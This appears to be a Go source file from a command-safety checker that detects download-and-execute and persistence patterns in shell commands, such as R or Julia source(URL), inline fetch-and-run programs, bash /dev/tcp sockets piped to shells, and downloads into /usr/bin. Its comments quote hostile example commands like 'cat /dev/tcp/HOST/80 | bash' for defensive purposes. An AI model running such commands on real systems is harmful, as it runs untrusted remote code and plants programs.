package danger

import (
	"path"
	"slices"
	"strings"

	"github.com/permsim/permsim/engine/shell"
)

// Code fetched from another host and run (download-execute): inline programs
// that save and run a URL's body, downloads into the system's program
// folders, shells reading a network socket, R and Julia code run from a URL,
// archives unpacked from a download, and Python installers given a URL.

// remoteSourceCalls are the calls of R and Julia code that run code read
// from a URL: R's source() (which takes a URL), devtools' source_url and
// source_gist, Julia's include(download(…)).
var remoteSourceCalls = []string{"source(", "source_url(", "source_gist(", "include(download("}

// otherRuntimeFetches flags R and Julia one-liners that run code fetched
// from a URL, and packages installed from another index by gem
// (--source, -s) or uv pip (--index-url, -i, --extra-index-url), as pip -i.
func (c *checker) otherRuntimeFetches(u unit) {
	cmd, name, ok := u.program()
	if !ok {
		return
	}
	args := cmd.Args
	switch name {
	case "Rscript", "rscript", "R", "r", "julia":
		// (lowerName has lowered R's names by the time rules see them.)
		for i, a := range args {
			if a.Lit != "-e" || i+1 >= len(args) {
				continue
			}
			code := args[i+1].Raw
			if (strings.Contains(code, "http://") || strings.Contains(code, "https://")) &&
				slices.ContainsFunc(remoteSourceCalls, func(f string) bool { return strings.Contains(code, f) }) {
				c.because(name, "-e")
				c.add(DownloadExecute)
				return
			}
		}
	case "gem", "uv":
		if name == "uv" && !firstVerbIn(args, "pip") || !slices.ContainsFunc(args, func(a shell.Word) bool { return a.Lit == "install" }) {
			return
		}
		for i, a := range args {
			val := ""
			switch {
			case (a.Lit == "--source" || a.Lit == "-s" && name == "gem" || name == "uv" && (a.Lit == "-i" || a.Lit == "--index-url" || a.Lit == "--extra-index-url")) && i+1 < len(args):
				val = args[i+1].Lit
			case strings.HasPrefix(a.Lit, "--source=") || strings.HasPrefix(a.Lit, "--index-url=") || strings.HasPrefix(a.Lit, "--extra-index-url="):
				_, val, _ = strings.Cut(a.Lit, "=")
			}
			if strings.Contains(val, "://") {
				c.because(name, a.Lit, val)
				c.add(DownloadExecute)
				return
			}
		}
	}
}

// fileRunners run the file given as their first operand (java's after
// -jar): runtimes the interpreters table does not hold.
var fileRunners = map[string]bool{"java": true, "dotnet": true, "mono": true, "wine": true, "wine64": true,
	"Rscript": true, "rscript": true, "julia": true, "osascript": true}

// fileRunnerTarget returns the file a runtime of fileRunners runs ("java
// -Xmx1g -jar tool.jar": tool.jar), "" for none.
func fileRunnerTarget(cmd *shell.Command) string {
	name := path.Base(cmd.Name)
	if cmd.Dynamic || !fileRunners[name] {
		return ""
	}
	for i, a := range cmd.Args {
		if !a.Literal {
			return ""
		}
		if name == "java" {
			if a.Lit == "-jar" && i+1 < len(cmd.Args) && cmd.Args[i+1].Literal {
				return cmd.Args[i+1].Lit
			}
			continue
		}
		if !strings.HasPrefix(a.Lit, "-") {
			return a.Lit
		}
	}
	return ""
}

// inlineDownloadRun: an inline program that saves a URL's body to a file
// and runs it by its own shell call (heldout10's python that writes
// bootstrap.py from a URL and os.system's it): download-execute. A later
// command of the line running the file is downloadThenRun's.
func (c *checker) inlineDownloadRun(u unit) {
	if _, runs := c.codeFetchedFiles(u); runs {
		c.because(path.Base(u.cmd.Name))
		c.add(DownloadExecute)
	}
}

// pathProgramFolders are the folders of the system's PATH, /usr/local's
// included: a file saved there is found by every user's shell by name.
var pathProgramFolders = []string{"/usr/bin", "/bin", "/usr/sbin", "/sbin", "/usr/local/bin", "/usr/local/sbin"}

// downloadsIntoPrograms: a download saved into a folder of the system's
// PATH puts a program from another host where every user's shell runs
// it by name (heldout10's "curl URL -o /usr/bin/tool", "wget URL -O
// /usr/local/bin/tool"; README's dev6 call for programs put into
// /usr/bin). The options are each downloader's own for the saved file or
// its folder: curl(1) -o, --output, --output-dir; wget(1) -O,
// --output-document, -P, --directory-prefix; aria2c(1) -d, --dir, -o,
// --out; axel(1) -o, --output; HTTPie's --output with --download;
// fetch(1) -o. Extracting an archive into /usr/local/bin stays as
// programsInstalled has it (heldout5 labels it everyday): what lands
// there is not the download itself.
func (c *checker) downloadsIntoPrograms(u unit) {
	cmd, name, ok := u.program()
	if !ok {
		return
	}
	args := cmd.Args
	var targets []string
	switch name {
	case "curl", "wget":
		targets = downloadTargets(cmd, name)
		letter, dirOpt := "", "--output-dir"
		if name == "wget" {
			letter, dirOpt = "P", "--directory-prefix"
		}
		if d, ok := optValue(args, letter, dirOpt); ok {
			targets = append(targets, d)
		}
	case "aria2c":
		for _, o := range [][2]string{{"d", "--dir"}, {"o", "--out"}} {
			if v, ok := optValue(args, o[0], o[1]); ok {
				targets = append(targets, v)
			}
		}
	case "axel", "fetch":
		if v, ok := optValue(args, "o", "--output"); ok {
			targets = append(targets, v)
		}
	case "http", "https", "xh", "xhs":
		if hasLit(args, "--download", "-d") {
			if v, ok := optValue(args, "o", "--output"); ok {
				targets = append(targets, v)
			}
		}
	default:
		return
	}
	for _, t := range targets {
		abs := shell.Resolve(t, u.dir, c.home)
		if slices.ContainsFunc(pathProgramFolders, func(d string) bool { return shell.Within(abs, d) }) {
			c.because(name, t)
			c.add(PersistenceStartupFiles)
			return
		}
	}
}

// isSocketPath reports bash's network pseudo-files, /dev/tcp/HOST/PORT
// and /dev/udp/HOST/PORT (bash(1) REDIRECTION).
func isSocketPath(p string) bool {
	return strings.HasPrefix(p, "/dev/tcp/") || strings.HasPrefix(p, "/dev/udp/")
}

// readsSocket reports a redirect of cmd's standard input from a socket.
func readsSocket(cmd *shell.Command) (string, bool) {
	for _, r := range cmd.Redirects {
		if p, ok := shell.PathOf(r.Target); ok && r.Read && !r.Write && isSocketPath(p) {
			return p, true
		}
	}
	return "", false
}

// socketScriptRun: a shell or interpreter that reads its program from
// its standard input, which is a network socket (bash(1)'s /dev/tcp and
// /dev/udp), runs whatever the remote host sends: download-execute, as
// "curl URL | sh" is (heldout10's "cat /dev/tcp/HOST/80 | bash"). The
// socket is its own "<" redirect or what cat, piped into it, reads (by
// a redirect or as its operand, the drawer's label followed).
func (c *checker) socketScriptRun(u unit) {
	cmd, name, ok := u.program()
	if !ok || !interpreters[name] || !readsStdinAsCode(cmd) {
		return
	}
	if p, ok := readsSocket(cmd); ok {
		c.because(name, "<", p)
		c.add(DownloadExecute)
		return
	}
	prev := c.pipedFrom()
	if prev == nil || prev.Dynamic || path.Base(prev.Name) != "cat" {
		return
	}
	p, ok := readsSocket(prev)
	for _, o := range operands(prev.Args) {
		if o.Literal && isSocketPath(o.Lit) {
			p, ok = o.Lit, true
		}
	}
	if ok {
		c.because("cat", p, "|", name)
		c.add(DownloadExecute)
	}
}

// fetchToFileCalls are the library calls that save a URL's body to a
// file: Python's urllib.request.urlretrieve and wget.download, Perl's
// LWP::Simple getstore and mirror.
var fetchToFileCalls = []string{"urlretrieve", "download", "getstore", "mirror"}

// codeFetchedFiles returns the files an inline program (python -c, ruby
// -e, perl -e, php -r, node -e, …) writes when it also fetches a URL:
// the path literals of a program that names an http(s) or ftp URL and
// writes files (codeWrites) or saves a URL to one (fetchToFileCalls).
// runs reports the program's own command strings running one of them
// ("os.system('python3 /tmp/bootstrap.py')"): the program or an
// interpreter given it as its script.
func (c *checker) codeFetchedFiles(u unit) (files []string, runs bool) {
	cmd, name, ok := u.program()
	if !ok {
		return nil, false
	}
	lang := langOf(name)
	if lang == "" || lang == "awk" {
		return nil, false
	}
	for _, code := range inlineCode(lang, cmd) {
		if !strings.Contains(code, "://") {
			continue
		}
		toks := codeTokens(code)
		writes := codeWrites(lang, code, toks)
		url, saves := urlAndCall(toks, fetchToFileCalls)
		if !url || !writes && !saves {
			continue
		}
		var lines []string
		var mine []string
		for _, t := range toks {
			if t.kind != tokString || t.text == "" || strings.Contains(t.text, "://") {
				continue
			}
			if strings.ContainsAny(t.text, " \t") {
				lines = append(lines, t.text)
				continue
			}
			if strings.Contains(t.text, "/") || scriptExts[path.Ext(t.text)] {
				mine = append(mine, shell.Resolve(t.text, u.dir, c.home))
			}
		}
		files = append(files, mine...)
		for _, l := range lines {
			f := strings.Fields(l)
			for i, w := range f {
				if !slices.Contains(mine, shell.Resolve(w, u.dir, c.home)) {
					continue
				}
				if i == 0 || interpreters[path.Base(f[0])] {
					runs = true
				}
			}
		}
	}
	return files, runs
}

// urlAndCall scans an inline program's tokens for what both
// codeFetchedFiles and printsFetched need: url, a string that is an
// http(s) or ftp URL; call, an identifier whose last name, lower-cased,
// is one of calls (a fetch or save-to-file call).
func urlAndCall(toks []token, calls []string) (url, call bool) {
	for _, t := range toks {
		switch t.kind {
		case tokString:
			url = url || strings.HasPrefix(t.text, "http://") || strings.HasPrefix(t.text, "https://") || strings.HasPrefix(t.text, "ftp://")
		case tokIdent:
			call = call || slices.Contains(calls, strings.ToLower(lastName(t.text)))
		}
	}
	return url, call
}

// printFetchCalls are the library calls whose result is a URL's body
// (Python's urlopen, PHP's file_get_contents, LWP::Simple's get and
// getprint, Ruby's Net::HTTP.get and URI.open, JavaScript's fetch).
var printFetchCalls = []string{"urlopen", "file_get_contents", "get", "getprint", "fetch", "open", "read"}

// printsFetched reports a command that prints what another host sends,
// beyond the downloaders table: text browsers' page source (lynx,
// elinks, links -source|-dump; w3m -dump_source|-dump), BSD ftp(1)
// auto-fetching to "-o -", curlie, an inline program naming a URL and a
// fetch call (printFetchCalls) that writes no file, DNS TXT records (dig,
// nslookup, host, drill, kdig asked for TXT: commands carried over DNS,
// MITRE ATT&CK T1071.004), and ssh(1) given a command to run on the
// other host.
func printsFetched(cmd *shell.Command) bool {
	if cmd.Dynamic || cmd.Name == "" {
		return false
	}
	args := cmd.Args
	hasURL := func() bool {
		return slices.ContainsFunc(args, func(w shell.Word) bool { return strings.Contains(w.Lit, "://") })
	}
	name := path.Base(cmd.Name)
	switch name {
	case "lynx", "elinks", "links", "links2":
		return hasLit(args, "-source", "-dump") && hasURL()
	case "w3m":
		return hasLit(args, "-dump_source", "-dump") && hasURL()
	case "ftp", "tnftp":
		v, ok := optValue(args, "o", "")
		return ok && v == "-" && hasURL()
	case "curlie":
		return hasURL()
	case "dig", "kdig", "drill":
		return slices.ContainsFunc(args, func(w shell.Word) bool { return strings.EqualFold(w.Lit, "txt") })
	case "nslookup":
		return slices.ContainsFunc(args, func(w shell.Word) bool {
			l := strings.ToLower(w.Lit)
			return l == "-q=txt" || l == "-type=txt" || l == "-querytype=txt" || l == "-query=txt"
		})
	case "host":
		v, ok := optValue(args, "t", "")
		return ok && strings.EqualFold(v, "txt")
	case "ssh":
		// ssh(1)'s options that take a value, then the host and its command.
		return len(operandsAfterValues(args, "BbcDEeFIiJLlmOoPpQRSWw")) >= 2 && !hasLit(args, "-N", "-f")
	}
	lang := langOf(name)
	if lang == "" || lang == "awk" {
		return false
	}
	for _, code := range inlineCode(lang, cmd) {
		if !strings.Contains(code, "://") {
			continue
		}
		toks := codeTokens(code)
		if url, fetch := urlAndCall(toks, printFetchCalls); url && fetch && !codeWrites(lang, code, toks) {
			return true
		}
	}
	return false
}

// streamFilters are the programs that print an archive's member or a
// decoded stream on their standard output: tar -O|--to-stdout (tar(1)),
// gunzip and zcat (gzip(1)), bunzip2 and bzcat (bzip2(1)), unxz and xzcat
// (xz(1)), unzstd and zstdcat (zstd(1)), gzip, bzip2, xz and zstd given
// -d, unzip -p (unzip(1)), base64 -d|-D|--decode (base64(1)).
func streamFilter(cmd *shell.Command) bool {
	args := cmd.Args
	switch path.Base(cmd.Name) {
	case "gunzip", "zcat", "gzcat", "bunzip2", "bzcat", "unxz", "xzcat", "unzstd", "zstdcat", "lzcat":
		return true
	case "gzip", "bzip2", "xz", "zstd", "lzma":
		return shortFlag(args, 'd', "--decompress", "--uncompress")
	case "unzip":
		return shortFlag(args, 'p')
	case "base64":
		return shortFlag(args, 'd', "--decode") || hasLit(args, "-D")
	case "tar", "gtar", "bsdtar":
		if hasLit(args, "-O", "--to-stdout") {
			return true
		}
		// The first word's letters when written without a dash ("xfOz").
		return len(args) > 0 && args[0].Literal && !strings.HasPrefix(args[0].Lit, "-") && strings.Contains(args[0].Lit, "O")
	}
	return false
}

// extractedDownload returns the files a download piped through stream
// filters is written to by the pipeline's last command ("curl URL | tar
// xfOz - tool > .s", "wget -qO- URL | gunzip > t"): the downloaded program
// saved under another name, for downloadThenRun.
func extractedDownload(s *shell.Script, i int) []string {
	if s == nil || i+1 >= len(s.Commands) {
		return nil
	}
	cmds := s.Commands
	last := -1 // the pipeline's later stages: its commands not nested in a word of one
	for k := i + 1; k < len(cmds); k++ {
		if cmds[k].Pipeline != cmds[i].Pipeline || cmds[k].Nested != cmds[i].Nested {
			continue
		}
		if cmds[k].Dynamic || !streamFilter(&cmds[k]) {
			return nil
		}
		last = k
	}
	if last < 0 {
		return nil
	}
	var out []string
	for _, r := range cmds[last].Redirects {
		if p, ok := shell.PathOf(r.Target); ok && r.Write && (r.Op == ">" || r.Op == ">|" || r.Op == "&>") {
			out = append(out, p)
		}
	}
	return out
}

// pathHoldsCwd reports a command whose own PATH assignment puts the
// current folder first or among its folders ("PATH=.:$PATH tool"): a bare
// name runs the file of that name in the folder.
func pathHoldsCwd(cmd *shell.Command) bool {
	for _, a := range cmd.Assigns {
		if a.Name == "PATH" && slices.ContainsFunc(strings.Split(a.Value, ":"), func(f string) bool { return f == "." || f == "" || f == "$PWD" }) {
			return true
		}
	}
	return false
}

func init() {
	addRuleTexts(map[string]string{
		"otherRuntimeFetches":   "R or Julia code that runs code from a URL (source(URL), source_url, include(download(URL))), or a package installed from another index by gem --source or uv pip --index-url",
		"inlineDownloadRun":     "an inline program (python -c, ruby -e, perl -e, php -r, …) that saves a URL's body to a file and runs that file by its own shell call (os.system, system, exec)",
		"socketScriptRun":       "a shell or interpreter reading its program from a network socket (bash's /dev/tcp/HOST/PORT or /dev/udp/HOST/PORT), by its own < redirect or from cat of the socket piped into it: it runs what the remote host sends",
		"downloadsIntoPrograms": "a download saved into a folder of the system's PATH (/usr/bin, /bin, /usr/sbin, /sbin, /usr/local/bin, /usr/local/sbin) by curl -o|--output-dir, wget -O|-P, aria2c -d|-o, axel -o, HTTPie --download --output or fetch -o: a program from another host every user's shell runs by name",
	})
}

// pythonInstallsFromURL flags Python's other installers given a package
// by URL or VCS reference, as pipInstallsURL flags pip (download-execute:
// the package's build backend runs its code, PEP 517): "uv pip install",
// "uv add", "uv tool install [--from SPEC]", "pipx install|inject
// [--spec SPEC]", "poetry add", "pdm add", "rye add [--git URL]" — an
// operand, or the value of --from, --spec or --git, that holds "://" or
// starts with "git+". Other option values (an index, a source name) are
// not the package.
func (c *checker) pythonInstallsFromURL(u unit) {
	cmd, name, ok := u.program()
	if !ok || asksHelp(cmd.Args) {
		return
	}
	v := c.verbs(cmd.Args, 2)
	at := wordList(v).at
	installs := false
	switch name {
	case "uv":
		installs = at(0) == "pip" && at(1) == "install" || at(0) == "add" || at(0) == "tool" && at(1) == "install"
	case "pipx":
		installs = at(0) == "install" || at(0) == "inject"
	case "poetry", "pdm", "rye":
		installs = at(0) == "add"
	}
	if !installs {
		return
	}
	remote := func(s string) bool { return strings.Contains(s, "://") || strings.HasPrefix(s, "git+") }
	args := cmd.Args
	for i := 0; i < len(args); i++ {
		a := args[i]
		if !a.Literal {
			continue
		}
		if opt, val, ok := strings.Cut(a.Lit, "="); ok && strings.HasPrefix(opt, "--") {
			if (opt == "--from" || opt == "--spec" || opt == "--git") && remote(val) {
				c.becauseProgram(name, val)
				c.add(DownloadExecute)
				return
			}
			continue
		}
		if strings.HasPrefix(a.Lit, "-") {
			if (a.Lit == "--from" || a.Lit == "--spec" || a.Lit == "--git") && i+1 < len(args) && remote(args[i+1].Lit) {
				c.becauseProgram(name, args[i+1].Lit)
				c.add(DownloadExecute)
				return
			}
			if strings.HasPrefix(a.Lit, "--") && i+1 < len(args) && !strings.HasPrefix(args[i+1].Lit, "-") && !remote(args[i+1].Lit) {
				i++ // an option's value ("--source internal", "--tag v1")
			}
			continue
		}
		if remote(a.Lit) {
			c.becauseProgram(name, a.Lit)
			c.add(DownloadExecute)
			return
		}
	}
}

func init() {
	addRuleTexts(map[string]string{
		"pythonInstallsFromURL": "uv pip install|add|tool install, pipx install|inject, poetry|pdm|rye add of a package by URL or VCS reference (git+…, https://…): its build code runs from wherever the URL points",
	})
}

// wgetShortValues are wget(1)'s one-letter options that take a value (the
// rest of the word or the next one); -n takes its letters (-nv, -nc).
const wgetShortValues = "eoaiBtOTwQPUlARDIXn"

// wgetToFile reports a wget that saves what it fetches to a file: wget(1)
// names the file after the URL unless -O/--output-document FILE is given,
// and only "-" (or /dev/stdout) as FILE prints it to standard output.
// Nothing then reaches a pipe or a process substitution, so "wget URL |
// sh" and "bash <(wget URL)" run nothing of the page (README's heldout8
// and heldout16 calls; as FreeBSD fetch, fetchToFile).
func wgetToFile(cmd *shell.Command) bool {
	if path.Base(cmd.Name) != "wget" || cmd.Dynamic {
		return false
	}
	stdout := func(v string) bool {
		return v == "-" || v == "/dev/stdout" || v == "/dev/fd/1" || v == "/proc/self/fd/1"
	}
	for i := 0; i < len(cmd.Args); i++ {
		a := cmd.Args[i]
		if !a.Literal {
			return false // an option computed at run time may be -O -
		}
		next := ""
		if i+1 < len(cmd.Args) {
			next = cmd.Args[i+1].Lit
		}
		switch {
		case a.Lit == "--":
			return true
		case a.Lit == "--output-document":
			if stdout(next) {
				return false
			}
			i++
		case strings.HasPrefix(a.Lit, "--output-document="):
			if stdout(strings.TrimPrefix(a.Lit, "--output-document=")) {
				return false
			}
		case len(a.Lit) > 1 && a.Lit[0] == '-' && a.Lit[1] != '-':
			for k := 1; k < len(a.Lit); k++ {
				if !strings.ContainsRune(wgetShortValues, rune(a.Lit[k])) {
					continue
				}
				v := a.Lit[k+1:]
				if v == "" {
					v = next
					i++
				}
				if a.Lit[k] == 'O' && stdout(v) {
					return false
				}
				break
			}
		}
	}
	return true
}
